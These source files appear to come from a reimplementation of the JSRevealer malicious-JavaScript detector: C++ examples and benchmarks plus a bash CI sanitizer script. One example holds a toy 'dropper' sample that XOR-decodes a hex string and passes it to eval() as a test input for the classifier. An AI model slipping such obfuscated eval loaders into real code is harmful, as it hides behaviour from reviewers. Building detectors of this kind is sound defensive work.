              corpus.size(), corpus.count_label(0), corpus.count_label(1));

  // 2. Split into train/test.
  Rng rng(7);
  const dataset::Split split = dataset::split_corpus(corpus, 140, 140, rng);

  // 3. Train the detector (defaults follow the paper's hyperparameters,
  //    CPU-scaled; see core::Config for every knob).
  core::Config cfg;
  core::JsRevealer detector(cfg);
  std::printf("training on %zu scripts...\n", split.train.size());
  detector.train(split.train);
  std::printf("trained: %zu cluster features (%zu overlapping removed)\n",
              detector.feature_count(), detector.clusters_removed());

  // 4. Evaluate on held-out data.
  const ml::Metrics m = detector.evaluate(split.test);
  std::printf("test metrics: accuracy %.1f%%  F1 %.1f%%  FPR %.1f%%  "
              "FNR %.1f%%\n",
              m.accuracy * 100, m.f1 * 100, m.fpr * 100, m.fnr * 100);

  // 5. Classify individual scripts.
  const char* benign_snippet = R"JS(
    function formatPrice(cents) {
      var dollars = Math.floor(cents / 100);
      var rest = cents % 100;
      return "$" + dollars + "." + (rest < 10 ? "0" + rest : rest);
    }
    document.getElementById("price").textContent = formatPrice(1999);
  )JS";

  const char* dropper_snippet = R"JS(
    var p = "6576616c28616c6572742829293b";
    var d = "";
    var k = 11;
    for (var i = 0; i < p.length; i += 2) {
      var c = parseInt(p.substr(i, 2), 16);
      d += String.fromCharCode((c ^ k) & 255 | k & 0);
    }
    eval(d);
  )JS";

  std::printf("benign snippet  -> %s\n",
              detector.classify(benign_snippet) == 1 ? "MALICIOUS" : "benign");
  std::printf("dropper snippet -> %s\n",
              detector.classify(dropper_snippet) == 1 ? "MALICIOUS" : "benign");
  return 0;
}
