// Interpretability demo (the paper's RQ3): inspect the most important
// cluster features of a trained detector and the path contexts at their
// centers — benign clusters describe functionality implementation,
// malicious clusters describe data manipulation.
//
//   $ ./examples/interpret_features
#include <cstdio>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/rng.h"

int main() {
  using namespace jsrev;

  dataset::GeneratorConfig gen_cfg;
  gen_cfg.seed = 77;
  gen_cfg.benign_count = 240;
  gen_cfg.malicious_count = 240;
  const dataset::Corpus corpus = dataset::generate_corpus(gen_cfg);
  Rng rng(3);
  const dataset::Split split = dataset::split_corpus(corpus, 170, 170, rng);

  core::JsRevealer detector(core::Config{});
  std::printf("training...\n");
  detector.train(split.train);

  std::printf("\n%zu cluster features (K_benign=11 + K_malicious=10, %zu "
              "overlapping removed)\n\n",
              detector.feature_count(), detector.clusters_removed());

  std::printf("top-10 features by random-forest importance:\n");
  for (const auto& e : detector.feature_report(10)) {
    std::printf("  feature %2d  importance %.3f  learned from %-9s\n"
                "      center path: %s\n",
                e.feature_index, e.importance,
                e.from_benign ? "benign" : "malicious",
                e.central_path.c_str());
  }

  std::printf(
      "\nreading the paths: node kinds joined by ^ (up) and v (down);\n"
      "leaf values @var_str/@var_int/... are type abstractions; @vs marks\n"
      "two endpoints of the SAME data-flow-linked variable, @va/@vb two\n"
      "different linked variables, @vl a linked endpoint paired with an\n"
      "unlinked one.\n");
  return 0;
}
