#!/usr/bin/env bash
# Sanitizer CI check: build everything with ASan+UBSan (findings are fatal —
# -fno-sanitize-recover=all), run the full test suite, smoke-test the
# jsr_lint CLI on the bundled dropper sample, then run a fixed-seed
# jsr_fuzz pass (lexer/parser/printer/linter/deob oracles under sanitizers).
#
#   $ scripts/check.sh            # build dir: build-asan
#   $ BUILD_DIR=... scripts/check.sh
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD_DIR="${BUILD_DIR:-build-asan}"

echo "== configure (${BUILD_DIR}, JSR_SANITIZE=ON)"
cmake -B "${BUILD_DIR}" -S . -DJSR_SANITIZE=ON > /dev/null

echo "== build"
cmake --build "${BUILD_DIR}" -j "$(nproc)"

echo "== ctest (ASan+UBSan)"
ctest --test-dir "${BUILD_DIR}" --output-on-failure -j "$(nproc)" \
      -E '^script_analysis_test$'

# The shared-analysis equivalence suite (string vs ScriptAnalysis paths,
# parse-count accounting, thread widths 1/2/8) runs as its own step so a
# sanitizer finding in the parse-once layer is attributed unambiguously.
echo "== script_analysis equivalence (ASan+UBSan)"
ctest --test-dir "${BUILD_DIR}" --output-on-failure \
      -R '^script_analysis_test$'

echo "== jsr_lint smoke"
"${BUILD_DIR}/tools/jsr_lint" examples/samples/dropper.js
json_out="$("${BUILD_DIR}/tools/jsr_lint" --json examples/samples/dropper.js)"
if command -v python3 > /dev/null; then
  echo "${json_out}" | python3 -m json.tool > /dev/null
  echo "jsr_lint --json output is valid JSON"
fi
case "${json_out}" in
  *'"rule_id":"M01"'*) echo "jsr_lint smoke: M01 fired as expected" ;;
  *) echo "jsr_lint smoke FAILED: expected an M01 diagnostic" >&2; exit 1 ;;
esac

# Deobfuscation smoke under sanitizers: the CLI on the dropper sample (both
# plain and --stats paths), and `jsr_lint --deob` linting the normalized
# form of the same file.
echo "== jsr_deob smoke (ASan+UBSan)"
"${BUILD_DIR}/tools/jsr_deob" examples/samples/dropper.js > /dev/null
"${BUILD_DIR}/tools/jsr_deob" --stats examples/samples/dropper.js
"${BUILD_DIR}/tools/jsr_lint" --deob examples/samples/dropper.js

# Fixed-seed mutational fuzz pass under the same sanitizer build: every
# iteration checks the five frontend oracles (never-crash, print→reparse
# round trip, obfuscate-still-parses, linter totality, deob totality +
# idempotence — plus the up-front deob verdict sweep and the artifact
# corruption sweep O6: truncated/bit-flipped JSRM artifacts must raise
# ModelFormatError, never crash or silently change verdicts). Deterministic,
# so a
# failure here reproduces with the same command. Throughput lands in
# BENCH_fuzz.json.
echo "== jsr_fuzz smoke (seed 1, 2000 iters, ASan+UBSan)"
"${BUILD_DIR}/tools/jsr_fuzz" --seed 1 --iters 2000 --quiet \
    --json "${BUILD_DIR}/BENCH_fuzz.json"

# Observability smoke under the same sanitizer build: jsr_stats trains
# JSRevealer plus the four baselines, evaluates them over a shared analyzed
# corpus (exercising every instrumented layer), explains the dropper sample,
# and exports metrics + deterministic metrics + a Chrome trace. Every emitted
# artifact — including the fuzz envelope above — is then gated through
# `jsr_stats --validate`, which checks well-formed JSON plus the shared BENCH
# envelope / Chrome trace-event schema.
echo "== jsr_stats smoke (ASan+UBSan)"
"${BUILD_DIR}/tools/jsr_stats" --scripts 18 --seed 1 \
    --metrics "${BUILD_DIR}/stats_metrics.json" \
    --deterministic "${BUILD_DIR}/stats_deterministic.json" \
    --trace "${BUILD_DIR}/stats_trace.json" \
    --prom "${BUILD_DIR}/stats_metrics.prom" \
    --explain examples/samples/dropper.js
# The offline converter must agree with the live --prom path byte for byte:
# both are the same snapshot through the same exposition writer.
"${BUILD_DIR}/tools/jsr_stats" --prom-from "${BUILD_DIR}/stats_metrics.json" \
    > "${BUILD_DIR}/stats_metrics_from.prom"
cmp "${BUILD_DIR}/stats_metrics.prom" "${BUILD_DIR}/stats_metrics_from.prom"
echo "jsr_stats: --prom and --prom-from render byte-identical expositions"

# AST layout smoke under sanitizers: the full gated bench (bytes/node floor,
# cross-width fingerprint determinism) with its hot loops — interned atoms,
# slice child lists, preorder compaction — exercised under ASan+UBSan. One
# repeat: sanitizer timings are meaningless, the gates we want here are
# memory safety plus the determinism check, so the throughput floors are
# relaxed to "not catastrophically broken".
echo "== bench_ast_layout smoke (ASan+UBSan)"
(cd "${BUILD_DIR}" && JSREV_BENCH_REPEATS=1 JSREV_BENCH_ASAN_RELAX=1 \
    ./bench/bench_ast_layout)

# Model-artifact lifecycle under sanitizers: train a small model, write the
# legacy (v1) stream form, convert it to a JSRM artifact, and verify the
# converted bytes are identical to the artifact the trainer writes directly —
# the convert path must lose nothing. `inspect` re-reads the result (header,
# section table, checksum pass) and `classify` exercises the mapped
# zero-copy inference path end to end.
echo "== jsr_model convert-and-verify (ASan+UBSan)"
"${BUILD_DIR}/tools/jsr_model" train --scripts 16 --seed 5 \
    --out "${BUILD_DIR}/check_model.jsrm" \
    --legacy-stream "${BUILD_DIR}/check_model_legacy.bin"
"${BUILD_DIR}/tools/jsr_model" convert "${BUILD_DIR}/check_model_legacy.bin" \
    "${BUILD_DIR}/check_model_converted.jsrm"
cmp "${BUILD_DIR}/check_model.jsrm" "${BUILD_DIR}/check_model_converted.jsrm"
echo "jsr_model: legacy-stream conversion is byte-identical"
"${BUILD_DIR}/tools/jsr_model" inspect "${BUILD_DIR}/check_model.jsrm" \
    > /dev/null
"${BUILD_DIR}/tools/jsr_model" classify "${BUILD_DIR}/check_model.jsrm" \
    examples/samples/dropper.js

# Serving smoke: the artifact trained above, served end to end through the
# jsr_serve daemon in --stdio mode. Three probes:
#   1. verdict parity — the daemon's verdicts for the sample scripts must
#      match `jsr_model classify` over the same model, byte for byte,
#   2. failure containment — garbage on the wire must draw an error frame
#      and a clean exit 0, never a crash or sanitizer report,
#   3. graceful drain — a QUIT frame after the classifies still answers
#      every request before the BYE.
echo "== jsr_serve stdio smoke (ASan+UBSan)"
serve_in="${BUILD_DIR}/serve_smoke_inputs"
rm -rf "${serve_in}" && mkdir -p "${serve_in}"
cp examples/samples/dropper.js "${serve_in}/dropper.js"
printf 'var x = 1 + 2;\nconsole.log(x);\n' > "${serve_in}/benign.js"
printf 'function broken( {\n' > "${serve_in}/broken.js"
serve_files=("${serve_in}/benign.js" "${serve_in}/dropper.js" "${serve_in}/broken.js")
"${BUILD_DIR}/tools/jsr_serve" --encode "${serve_files[@]}" --quit \
    | "${BUILD_DIR}/tools/jsr_serve" --model "${BUILD_DIR}/check_model.jsrm" --stdio \
    | "${BUILD_DIR}/tools/jsr_serve" --decode > "${BUILD_DIR}/serve_smoke.out"
daemon_verdicts="$(awk -F'\t' '$2 ~ /^[01]$/ { print $2 }' "${BUILD_DIR}/serve_smoke.out")"
library_verdicts="$("${BUILD_DIR}/tools/jsr_model" classify \
    "${BUILD_DIR}/check_model.jsrm" "${serve_files[@]}" | cut -f1)"
if [ "${daemon_verdicts}" != "${library_verdicts}" ]; then
  echo "jsr_serve smoke FAILED: daemon verdicts diverge from jsr_model classify" >&2
  echo "daemon:  ${daemon_verdicts}" >&2
  echo "library: ${library_verdicts}" >&2
  exit 1
fi
grep -q 'BYE' "${BUILD_DIR}/serve_smoke.out" \
    || { echo "jsr_serve smoke FAILED: no BYE after QUIT drain" >&2; exit 1; }
echo "jsr_serve: daemon verdicts match jsr_model classify; QUIT drained"
# Deterministic malformed-frame sweep: plain garbage, a truncated header,
# and an oversized length field — the daemon must answer with an error
# frame (or wait out the truncation) and exit 0 on every one.
printf 'this is definitely not a frame' \
    | "${BUILD_DIR}/tools/jsr_serve" --model "${BUILD_DIR}/check_model.jsrm" \
        --stdio > /dev/null
printf 'JR\x01\x00\x01\x00\x00' \
    | "${BUILD_DIR}/tools/jsr_serve" --model "${BUILD_DIR}/check_model.jsrm" \
        --stdio > /dev/null
printf 'JR\x01\x00\x01\x00\x00\x00\xff\xff\xff\xff' \
    | "${BUILD_DIR}/tools/jsr_serve" --model "${BUILD_DIR}/check_model.jsrm" \
        --stdio > /dev/null
echo "jsr_serve: malformed-frame sweep survived (exit 0 on all three)"

# Admin telemetry plane smoke: the daemon on a Unix socket with --admin 0
# (ephemeral port, announced on stdout), probed through the built-in test
# client. /healthz must answer, /statusz must be valid JSON, and the
# /metrics exposition must pass jsr_stats's Prometheus validator and carry
# the build/model info gauges. SIGTERM must still shut the pair down
# cleanly (exit 0) with both listeners draining.
echo "== jsr_serve admin plane smoke (ASan+UBSan)"
admin_sock="${BUILD_DIR}/admin_smoke.sock"
admin_log="${BUILD_DIR}/admin_smoke.log"
rm -f "${admin_sock}"
"${BUILD_DIR}/tools/jsr_serve" --model "${BUILD_DIR}/check_model.jsrm" \
    --unix "${admin_sock}" --admin 0 \
    > "${admin_log}" 2> "${BUILD_DIR}/admin_smoke.err" &
admin_pid=$!
admin_ep=""
for _ in $(seq 1 100); do
  admin_ep="$(awk '/^admin /{print $2; exit}' "${admin_log}")"
  [ -n "${admin_ep}" ] && break
  sleep 0.1
done
if [ -z "${admin_ep}" ]; then
  echo "admin smoke FAILED: no 'admin HOST:PORT' announcement" >&2
  kill "${admin_pid}" 2> /dev/null || true
  exit 1
fi
"${BUILD_DIR}/tools/jsr_serve" --admin-get "${admin_ep}" /healthz
"${BUILD_DIR}/tools/jsr_serve" --admin-get "${admin_ep}" /statusz \
    > "${BUILD_DIR}/admin_statusz.json"
if command -v python3 > /dev/null; then
  python3 -m json.tool "${BUILD_DIR}/admin_statusz.json" > /dev/null
  echo "admin /statusz is valid JSON"
fi
"${BUILD_DIR}/tools/jsr_serve" --admin-get "${admin_ep}" /metrics \
    > "${BUILD_DIR}/admin_metrics.prom"
"${BUILD_DIR}/tools/jsr_stats" --validate "${BUILD_DIR}/admin_metrics.prom"
grep -q '^jsr_build_info{' "${BUILD_DIR}/admin_metrics.prom" \
    || { echo "admin smoke FAILED: jsr_build_info gauge missing" >&2; exit 1; }
grep -q '^jsr_model_info{' "${BUILD_DIR}/admin_metrics.prom" \
    || { echo "admin smoke FAILED: jsr_model_info gauge missing" >&2; exit 1; }
kill -TERM "${admin_pid}"
wait "${admin_pid}"
echo "jsr_serve admin plane: /healthz, /statusz, /metrics served and valid"

# Serving bench at smoke scale: one repeat, tiny corpus — the point under
# sanitizers is memory safety across the socketpair + framing + batching
# stack plus the always-on hard gate (daemon verdicts bit-identical to the
# library) and a schema-valid BENCH_serve.json.
echo "== bench_serve smoke (ASan+UBSan)"
(cd "${BUILD_DIR}" && JSREV_BENCH_TRAIN=24 JSREV_BENCH_CORPUS=8 \
    JSREV_BENCH_REPEATS=1 JSREV_BENCH_ASAN_RELAX=1 ./bench/bench_serve)

# Admin-overhead bench at smoke scale: timing waived under sanitizers; the
# always-on gates here are verdict bit-identity with the admin plane armed,
# a clean /metrics exposition on every scrape, /readyz flipping to 503 on
# drain, and a schema-valid BENCH_admin.json.
echo "== bench_admin smoke (ASan+UBSan)"
(cd "${BUILD_DIR}" && JSREV_BENCH_TRAIN=24 JSREV_BENCH_CORPUS=8 \
    JSREV_BENCH_REPEATS=1 JSREV_BENCH_ASAN_RELAX=1 ./bench/bench_admin)

# Model-IO bench at smoke scale: one repeat, timing gate relaxed — the point
# under sanitizers is memory safety across mmap attach/validation plus the
# always-on hard gate (mapped verdicts bit-identical to the heap detector at
# widths 1/2/8) and a schema-valid BENCH_model_io.json.
echo "== bench_model_io smoke (ASan+UBSan)"
(cd "${BUILD_DIR}" && JSREV_BENCH_TRAIN=24 JSREV_BENCH_CORPUS=16 \
    JSREV_BENCH_REPEATS=1 JSREV_BENCH_ASAN_RELAX=1 ./bench/bench_model_io)

# Robustness-recovery bench at smoke scale: tiny corpus, one repeat — the
# point here is memory safety across both half-grids (pipeline off/on for
# all five detectors) plus a schema-valid BENCH_deob.json, not the numbers.
echo "== bench_deob smoke (ASan+UBSan)"
(cd "${BUILD_DIR}" && JSREV_BENCH_CORPUS=40 JSREV_BENCH_TRAIN=24 \
    JSREV_BENCH_REPEATS=1 ./bench/bench_deob)

echo "== artifact schema validation"
"${BUILD_DIR}/tools/jsr_stats" \
    --validate "${BUILD_DIR}/stats_metrics.json" \
    --validate "${BUILD_DIR}/stats_deterministic.json" \
    --validate "${BUILD_DIR}/stats_trace.json" \
    --validate "${BUILD_DIR}/BENCH_fuzz.json" \
    --validate "${BUILD_DIR}/BENCH_ast_layout.json" \
    --validate "${BUILD_DIR}/BENCH_deob.json" \
    --validate "${BUILD_DIR}/BENCH_model_io.json" \
    --validate "${BUILD_DIR}/BENCH_serve.json" \
    --validate "${BUILD_DIR}/BENCH_admin.json" \
    --validate "${BUILD_DIR}/stats_metrics.prom" \
    --validate "${BUILD_DIR}/admin_metrics.prom"

echo "== all checks passed"
