// Table IV robustness recovery: every detector per obfuscator, with the
// static deobfuscation pipeline off versus on.
//
// The paper's Table IV shows obfuscation collapsing the baselines (CUJO,
// ZOZZLE, JAST, JSTAP) while JSRevealer stays robust. This bench measures how
// much of that lost accuracy the src/deob normalization pipeline recovers
// when it runs in front of *all five* detectors (HarnessConfig::deobfuscate):
// training sources are normalized up front and every test condition is
// analyzed behind the same pipeline.
//
// Emits BENCH_deob.json (standard envelope, validated by
// `jsr_stats --validate`) with one point per detector x condition carrying
// the off/on metrics and the accuracy delta.
#include <cstdio>
#include <fstream>
#include <map>

#include "bench_config.h"
#include "obs/json.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto base = bench::default_harness_config();

  std::printf("TABLE IV recovery: all detectors per obfuscator, deobfuscation "
              "pipeline off vs on\n");
  std::printf("paper: obfuscation collapses the baselines (e.g. JAST 52.4 "
              "acc under JSObfu) while JSRevealer holds; the static pipeline "
              "should claw accuracy back for the baselines\n\n");

  bench::ResultGrid grids[2];
  for (const bool deob : {false, true}) {
    bench::HarnessConfig cfg = base;
    cfg.deobfuscate = deob;
    std::fprintf(stderr, "[bench_deob] pipeline %s\n", deob ? "on" : "off");
    grids[deob ? 1 : 0] =
        bench::run_grid(cfg, bench::standard_factories(cfg));
  }
  const bench::ResultGrid& off = grids[0];
  const bench::ResultGrid& on = grids[1];

  // Acceptance summary: obfuscated conditions where a baseline (non-
  // JSRevealer) detector gains accuracy with the pipeline on.
  int recovered_cells = 0;
  std::map<std::string, int> recovered_conditions;  // obfuscator -> baselines

  Table t({"Detector", "Obfuscator", "Acc off", "Acc on", "dAcc", "F1 off",
           "F1 on"});
  obs::JsonWriter w;
  obs::write_bench_header(w, "deob");
  w.kv("corpus_per_class", static_cast<std::uint64_t>(base.benign_count))
      .kv("train_per_class", static_cast<std::uint64_t>(base.train_per_class))
      .kv("repeats", base.repeats)
      .key("points")
      .begin_array();

  for (const auto& [det, by_cond_off] : off) {
    const auto& by_cond_on = on.at(det);
    for (const auto& cond : bench::condition_names()) {
      const ml::Metrics& a = by_cond_off.at(cond);
      const ml::Metrics& b = by_cond_on.at(cond);
      const double delta = b.accuracy - a.accuracy;
      t.add_row({det, cond, bench::pct(a.accuracy), bench::pct(b.accuracy),
                 bench::pct(delta), bench::pct(a.f1), bench::pct(b.f1)});
      if (det != "JSRevealer" && cond != "Baseline" && delta > 0) {
        ++recovered_cells;
        ++recovered_conditions[cond];
      }
      w.begin_object()
          .kv("detector", det)
          .kv("condition", cond)
          .kv_fixed("accuracy_off", a.accuracy, 4)
          .kv_fixed("accuracy_on", b.accuracy, 4)
          .kv_fixed("accuracy_delta", delta, 4)
          .kv_fixed("f1_off", a.f1, 4)
          .kv_fixed("f1_on", b.f1, 4)
          .kv_fixed("fpr_on", b.fpr, 4)
          .kv_fixed("fnr_on", b.fnr, 4)
          .end_object();
    }
  }
  std::fputs(t.to_string().c_str(), stdout);

  int recovered_obfuscators = 0;
  for (const auto& [cond, n] : recovered_conditions) {
    (void)cond;
    if (n >= 2) ++recovered_obfuscators;
  }
  std::printf("\nrecovered cells (baseline x obfuscator with dAcc > 0): %d\n",
              recovered_cells);
  std::printf("obfuscators recovered for >=2 baselines: %d\n",
              recovered_obfuscators);

  w.end_array()
      .kv("recovered_cells", recovered_cells)
      .kv("recovered_obfuscators", recovered_obfuscators)
      .end_object();
  std::ofstream json("BENCH_deob.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_deob.json\n");
  return 0;
}
