#include "harness.h"

#include <cstdio>

#include "deob/deob.h"
#include "util/rng.h"
#include "util/string_util.h"

namespace jsrev::bench {

std::string pct(double fraction) { return fmt(fraction * 100.0, 1); }

dataset::Corpus obfuscate_corpus(const dataset::Corpus& corpus,
                                 obf::ObfuscatorKind kind,
                                 std::uint64_t seed) {
  const auto obfuscator = obf::make_obfuscator(kind);
  dataset::Corpus out;
  out.samples.reserve(corpus.samples.size());
  Rng rng(seed);
  for (const auto& sample : corpus.samples) {
    dataset::Sample s = sample;
    try {
      s.source = obfuscator->obfuscate(s.source, rng());
    } catch (const std::exception&) {
      // Keep the original on transform failure (mirrors real tool crashes).
    }
    out.samples.push_back(std::move(s));
  }
  return out;
}

DetectorFactory jsrevealer_factory(const HarnessConfig& cfg) {
  const core::Config base = cfg.jsrevealer;
  return [base](std::uint64_t seed) {
    core::Config c = base;
    c.seed = seed;
    return std::make_unique<core::JsRevealer>(c);
  };
}

std::vector<DetectorFactory> standard_factories(const HarnessConfig& cfg) {
  std::vector<DetectorFactory> factories;
  factories.push_back(jsrevealer_factory(cfg));
  for (const detect::BaselineKind kind : detect::kAllBaselines) {
    factories.push_back([kind](std::uint64_t seed) {
      return detect::make_baseline(kind, seed);
    });
  }
  return factories;
}

ResultGrid run_grid(const HarnessConfig& cfg,
                    const std::vector<DetectorFactory>& factories) {
  // detector -> condition -> per-repeat metrics.
  std::map<std::string, std::map<std::string, std::vector<ml::Metrics>>> runs;

  for (int rep = 0; rep < cfg.repeats; ++rep) {
    const std::uint64_t seed = cfg.seed + static_cast<std::uint64_t>(rep) * 7919;

    dataset::GeneratorConfig gc;
    gc.seed = seed;
    gc.benign_count = cfg.benign_count;
    gc.malicious_count = cfg.malicious_count;
    const dataset::Corpus corpus = dataset::generate_corpus(gc);

    Rng rng(seed ^ 0xabcdef);
    dataset::Split split = dataset::split_corpus(
        corpus, cfg.train_per_class, cfg.train_per_class, rng);
    const dataset::Corpus test = dataset::balance(split.test, rng);
    if (cfg.deobfuscate) {
      // Level the field for all five detectors: the string-trained
      // baselines have no per-script analysis hook, so the training corpus
      // itself is normalized (JSRevealer would also normalize internally
      // via Config::deobfuscate; the sources it receives here are already
      // in normal form, which makes that a no-op second pass).
      for (auto& s : split.train.samples) {
        s.source = deob::deobfuscate_source(s.source).source;
      }
    }

    // Pre-compute the five test-set conditions once per repeat, then build
    // each condition's shared analyses (parallel parse) exactly once — every
    // detector of this repeat evaluates against the same AnalyzedCorpus, so
    // a test script is parsed once total rather than once per detector.
    std::vector<dataset::Corpus> conditions;
    conditions.push_back(test);
    for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
      conditions.push_back(obfuscate_corpus(test, kind, seed ^ 0x5555));
    }
    std::vector<analysis::AnalyzedCorpus> analyzed;
    analyzed.reserve(conditions.size());
    for (const dataset::Corpus& condition : conditions) {
      analyzed.push_back(detect::analyze_corpus(
          condition, cfg.jsrevealer.threads, cfg.jsrevealer.parse_limits,
          cfg.deobfuscate));
    }

    for (const auto& factory : factories) {
      auto detector = factory(seed);
      detector->train(split.train);
      for (std::size_t c = 0; c < analyzed.size(); ++c) {
        runs[detector->name()][condition_names()[c]].push_back(
            detector->evaluate(analyzed[c]));
      }
      std::fprintf(stderr, "  [rep %d/%d] %s done\n", rep + 1, cfg.repeats,
                   detector->name().c_str());
    }
  }

  ResultGrid grid;
  for (const auto& [det, by_cond] : runs) {
    for (const auto& [cond, metrics] : by_cond) {
      grid[det][cond] = ml::average_metrics(metrics);
    }
  }
  return grid;
}

}  // namespace jsrev::bench
