// Fig. 6 reproduction: FNR and FPR of every detector on each obfuscator's
// output (the figure's eight bar groups as two tables).
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto cfg = bench::default_harness_config();
  const bench::ResultGrid grid =
      bench::run_grid(cfg, bench::standard_factories(cfg));

  std::printf("FIGURE 6: FNR / FPR (%%) per detector and obfuscator\n");
  std::printf("paper shape: CUJO degrades via FPR; ZOZZLE and JSTAP degrade "
              "via FNR; JAST mixed; JSRevealer bounded on both\n\n");

  for (const bool fnr : {true, false}) {
    std::printf("%s:\n", fnr ? "FNR" : "FPR");
    std::vector<std::string> header = {"Detector"};
    for (const auto& c : bench::condition_names()) header.push_back(c);
    Table t(header);
    for (const auto& [det, by_cond] : grid) {
      std::vector<std::string> row = {det};
      for (const auto& c : bench::condition_names()) {
        const ml::Metrics& m = by_cond.at(c);
        row.push_back(bench::pct(fnr ? m.fnr : m.fpr));
      }
      t.add_row(row);
    }
    std::fputs(t.to_string().c_str(), stdout);
    std::printf("\n");
  }
  return 0;
}
