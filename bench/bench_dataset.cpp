// Table I reproduction: dataset composition.
//
// Prints the modeled corpus composition by origin, mirroring the paper's
// Table I (sources and counts; our synthetic corpus reproduces the same
// origin MIX at a configurable scale).
#include <cstdio>

#include "bench_config.h"
#include "dataset/generator.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto cfg = bench::default_harness_config();
  dataset::GeneratorConfig gc;
  gc.benign_count = cfg.benign_count * 4;  // larger sample for stable mix
  gc.malicious_count = cfg.malicious_count * 4;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  std::map<std::string, std::pair<std::string, std::size_t>> rows;
  for (const auto& s : corpus.samples) {
    auto& row = rows[s.origin];
    row.first = s.label == 1 ? "Malicious" : "Benign";
    ++row.second;
  }

  std::printf("TABLE I: dataset composition (modeled origins)\n");
  std::printf("paper: HynekPetrak 39450 / GeeksOnSecurity 1370 / "
              "VirusTotal 1778 / 150k-JS 150000 / Alexa-10k 65203\n\n");
  Table t({"Class", "Source (modeled)", "#JS"});
  for (const auto& [origin, row] : rows) {
    t.add_row({row.first, origin, std::to_string(row.second)});
  }
  std::fputs(t.to_string().c_str(), stdout);

  std::map<std::string, std::size_t> families;
  for (const auto& s : corpus.samples) {
    if (s.label == 1) ++families[s.family];
  }
  std::printf("\nmalicious family mix:\n");
  Table f({"Family", "#JS"});
  for (const auto& [fam, n] : families) {
    f.add_row({fam, std::to_string(n)});
  }
  std::fputs(f.to_string().c_str(), stdout);
  return 0;
}
