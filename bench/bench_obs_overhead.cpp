// Measures what the observability layer costs on the hot path: classify_all
// throughput over the same corpus with (a) metrics disabled, (b) metrics
// enabled (the default production state), (c) metrics + span tracing.
//
// Every instrumented call site degrades to one relaxed atomic load + branch
// when the subsystem is off, so condition (a) is the "obs compiled in but
// dormant" floor. The bench asserts the metrics-on overhead stays under
// JSREV_BENCH_OBS_TOL_PCT percent (default 5) of that floor — the contract
// ISSUE'd with the subsystem — and emits BENCH_obs.json through the shared
// envelope. Tracing (c) is reported but not gated: it is opt-in and pays for
// per-span timestamps by design.
#include <algorithm>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obs/json.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

struct Condition {
  const char* name;
  bool metrics;
  bool trace;
  double best_ms = 0.0;
};

}  // namespace

int main() {
  const std::size_t per_class = bench::env_or("JSREV_BENCH_CORPUS", 160);
  const std::size_t train_per_class =
      bench::env_or("JSREV_BENCH_TRAIN", 110);
  const std::size_t repeats = bench::env_or("JSREV_BENCH_REPEATS", 3);
  const double tol_pct = static_cast<double>(
      bench::env_or("JSREV_BENCH_OBS_TOL_PCT", 5));

  dataset::GeneratorConfig gc;
  gc.seed = 77;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(gc.seed);
  const dataset::Split split =
      dataset::split_corpus(corpus, train_per_class, train_per_class, rng);

  std::printf("bench_obs_overhead: %zu train, %zu test scripts, "
              "best of %zu repeats\n",
              split.train.samples.size(), split.test.samples.size(), repeats);

  core::JsRevealer det;
  det.train(split.train);

  std::vector<std::string> sources;
  sources.reserve(split.test.samples.size());
  for (const auto& s : split.test.samples) sources.push_back(s.source);

  Condition conditions[] = {
      {"obs off", false, false},
      {"metrics on", true, false},
      {"metrics+trace on", true, true},
  };

  // Warm-up pass (allocator, model caches) outside any measurement.
  std::vector<int> reference = det.classify_all(sources);

  for (Condition& c : conditions) {
    obs::set_metrics_enabled(c.metrics);
    obs::Tracer::global().set_enabled(c.trace);
    double best = 0.0;
    for (std::size_t r = 0; r < repeats; ++r) {
      obs::Tracer::global().clear();  // bound the ring's memory across reps
      Timer t;
      const std::vector<int> verdicts = det.classify_all(sources);
      const double ms = t.elapsed_ms();
      if (verdicts != reference) {
        std::fprintf(stderr, "FAIL: verdicts changed under %s\n", c.name);
        return 1;
      }
      if (r == 0 || ms < best) best = ms;
    }
    c.best_ms = best;
  }
  obs::set_metrics_enabled(true);
  obs::Tracer::global().set_enabled(false);
  obs::Tracer::global().clear();

  const double base = conditions[0].best_ms;
  Table table({"condition", "best ms", "scripts/s", "overhead"});
  for (const Condition& c : conditions) {
    table.add_row(
        {c.name, fmt(c.best_ms, 1),
         fmt(static_cast<double>(sources.size()) * 1000.0 / c.best_ms, 0),
         fmt((c.best_ms / base - 1.0) * 100.0, 2) + "%"});
  }
  std::printf("\n%s\n", table.to_string().c_str());

  const double metrics_overhead_pct =
      (conditions[1].best_ms / base - 1.0) * 100.0;

  obs::JsonWriter w;
  obs::write_bench_header(w, "obs");
  w.kv("test_scripts", static_cast<std::uint64_t>(sources.size()))
      .kv("repeats", static_cast<std::uint64_t>(repeats))
      .kv_fixed("tolerance_pct", tol_pct, 1)
      .kv_fixed("metrics_overhead_pct", metrics_overhead_pct, 2)
      .key("conditions")
      .begin_array();
  for (const Condition& c : conditions) {
    w.begin_object()
        .kv("name", c.name)
        .kv("metrics", c.metrics)
        .kv("trace", c.trace)
        .kv_fixed("best_ms", c.best_ms, 1)
        .kv_fixed("scripts_per_s",
                  static_cast<double>(sources.size()) * 1000.0 / c.best_ms, 1)
        .end_object();
  }
  w.end_array().end_object();
  std::ofstream json("BENCH_obs.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_obs.json\n");

  if (metrics_overhead_pct >= tol_pct) {
    std::fprintf(stderr,
                 "FAIL: metrics-on overhead %.2f%% exceeds tolerance %.1f%%\n",
                 metrics_overhead_pct, tol_pct);
    return 1;
  }
  std::printf("metrics-on overhead %.2f%% < %.1f%% tolerance\n",
              metrics_overhead_pct, tol_pct);
  return 0;
}
