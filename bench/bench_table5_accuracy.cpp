// Table V reproduction: accuracy of JSRevealer vs the four baseline
